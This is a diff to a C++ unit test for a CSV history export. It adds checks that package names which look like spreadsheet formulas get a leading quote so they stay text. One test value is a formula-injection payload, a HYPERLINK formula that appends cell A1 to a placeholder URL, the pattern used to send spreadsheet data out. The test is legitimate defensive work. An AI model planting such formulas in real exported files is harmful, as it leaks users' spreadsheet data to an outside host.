@@ -116,6 +116,15 @@ TEST(HistoryListing, CsvHasAHeaderRowAndOneRowOfEqualWidthPerRecordWhateverTheTe
     EXPECT_EQ(rows[2][column("emulated")], "true");
     EXPECT_EQ(rows[2][column("location")], "");
     EXPECT_EQ(ParseCsv(HistoryCsv({})).size(), 1u) << "the header row even with no record";
+
+    // A file name that a spreadsheet would run as a formula stays a text.
+    records[0].Package = "=HYPERLINK(\"http://x/\"&A1,\"radio\").bin";
+    records[1].Package = "@SUM(1+1).bin";
+    const auto guarded = ParseCsv(HistoryCsv(records));
+    ASSERT_EQ(guarded.size(), 3u);
+    EXPECT_EQ(guarded[1][column("package")], "'" + records[0].Package);
+    EXPECT_EQ(guarded[2][column("package")], "'" + records[1].Package);
+    EXPECT_EQ(guarded[1][column("location")], "1-1.1") << "only a text that begins like a formula";
 }
 
 TEST(HistoryListing, TheTableAlignsItsColumnsUnderAHeadingAndMarksEmulatedRuns) {
